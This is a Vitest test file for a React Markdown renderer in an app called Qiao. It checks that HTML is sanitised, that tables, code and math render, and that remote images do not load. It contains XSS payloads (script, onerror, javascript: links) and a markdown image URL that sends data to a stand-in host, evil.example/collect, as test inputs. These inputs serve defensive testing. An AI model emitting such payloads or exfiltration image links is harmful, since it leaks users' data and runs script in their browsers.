import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { I18nProvider } from '../i18n/i18n';
import Markdown from './markdown';

// I18nProvider reads the browser's language and storage; a plain object stands in for both.
Object.assign(globalThis, {
  navigator: { languages: ['en'], language: 'en' },
  localStorage: { getItem: () => null, setItem: () => undefined, removeItem: () => undefined },
});

const render = (text: string) =>
  renderToStaticMarkup(
    <I18nProvider>
      <Markdown text={text} />
    </I18nProvider>,
  );

test('raw HTML, event handlers and javascript: links never reach the page', () => {
  const html = render(
    [
      '<script>alert(1)</script>',
      '<img src=x onerror="alert(2)">',
      '<iframe src="https://evil.example"></iframe>',
      '[click](javascript:alert(3))',
      '![x](javascript:alert(4))',
      '<a href="#" onclick="alert(5)">a</a>',
    ].join('\n\n'),
  );
  expect(html).not.toMatch(/<script|<iframe|<img[^>]*onerror|onclick|javascript:/i);
});

test('GFM tables, highlighted code with a copy button, and KaTeX math', () => {
  const html = render('| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconst x = 1;\n```\n\n$$E = mc^2$$');
  expect(html).toContain('<table>');
  expect(html).toContain('<td>1</td>');
  expect(html).toContain('hljs-keyword');
  expect(html).toContain('aria-label="Copy code"');
  expect(html).toContain('class="katex"');
});

test('an unknown language stays plain text', () => {
  expect(render('```nosuchlang\n<b>x</b>\n```')).toContain('&lt;b&gt;x&lt;/b&gt;');
});

test("a remote image in an answer is a link, never fetched on render; Qiao's own images show", () => {
  const html = render(
    [
      '![chart](https://evil.example/collect?d=13812345678)',
      '![](//evil.example/x.png)',
      '![avatar](/api/agents/a/avatar)',
    ].join('\n\n'),
  );
  expect(html).not.toMatch(/<img[^>]*evil\.example/);
  expect(html).toContain('href="https://evil.example/collect?d=13812345678"');
  expect(html).toContain('<img src="/api/agents/a/avatar" alt="avatar"/>');
});
